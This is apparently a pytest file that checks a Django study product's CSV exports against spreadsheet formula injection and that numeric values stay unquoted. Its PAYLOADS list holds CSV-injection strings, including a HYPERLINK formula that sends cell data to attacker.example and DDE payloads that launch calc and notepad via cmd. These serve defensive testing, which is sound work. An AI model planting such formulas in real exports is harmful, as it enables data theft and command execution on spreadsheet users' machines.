"""No CSV the product writes can run as a spreadsheet formula (OWASP "CSV injection")."""

from __future__ import annotations

import csv
import io
import re

import pytest

from reports.models import Recommendation
from reports.services import build_files
from rounds import csvio
from rounds.models import Item, Panelist, Rating, RoundItem
from tests.reports.helpers import finished_study

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?x="&A2,"Click")',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C notepad'!'A1'",
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def _cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8"))) for cell in row]


def test_payloads_in_comments_groups_items_and_titles_come_out_inert() -> None:
    study = finished_study()
    panelists = list(Panelist.objects.filter(study=study).order_by("pseudonym"))
    for i, panelist in enumerate(panelists):
        Panelist.objects.filter(pk=panelist.pk).update(group=PAYLOADS[i % len(PAYLOADS)])
    comments = list(Rating.objects.filter(panelist__study=study).exclude(comment=""))
    for i, rating in enumerate(comments):
        Rating.objects.filter(pk=rating.pk).update(comment=PAYLOADS[i % len(PAYLOADS)])
    for item in Item.objects.filter(study=study):
        text = {code: PAYLOADS[0] for code in study.languages}
        Item.objects.filter(pk=item.pk).update(text=text)
        RoundItem.objects.filter(item=item).update(text=text)
    Recommendation.objects.filter(study=study).update(title=PAYLOADS[1])

    files = build_files(study, version=1, with_pdf=False).files
    csvs = {name: data for name, data in files.items() if name.endswith(".csv")}
    assert {"ratings.csv", "comments.csv", "results.csv", "codebook.csv"} <= csvs.keys()
    for name, data in csvs.items():
        for cell in _cells(data):
            assert not cell.startswith(DANGEROUS) or NUMBER.fullmatch(cell), (name, cell)
    comment_cells = _cells(csvs["comments.csv"])
    assert "'" + PAYLOADS[0] in comment_cells  # kept, readable, inert
    assert "'" + PAYLOADS[4] in _cells(csvs["ratings.csv"])  # a group name


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_writer_neutralises_each_payload(payload: str) -> None:
    assert csvio.safe_cell(payload) == "'" + payload
    assert csvio.format_number(payload) == "'" + payload
    import pandas as pd

    frame = pd.DataFrame(
        {"round": [1], "panelist": ["P001"], "group": [payload], "item": ["I01"],
         "criterion": ["priority"], "value": [5.0]}
    )  # fmt: skip
    group = _cells(csvio.ratings_csv(frame))[8]
    assert group == "'" + payload


@pytest.mark.parametrize("number", ["-1.5", "-3", "+2", "-0.25", "1e-05", "-1E+3"])
def test_numbers_stay_numbers(number: str) -> None:
    assert csvio.safe_cell(number) == number
    assert csvio.format_number(float(number)) == f"{float(number):.10g}"
    assert not csvio.format_number(float(number)).startswith("'")
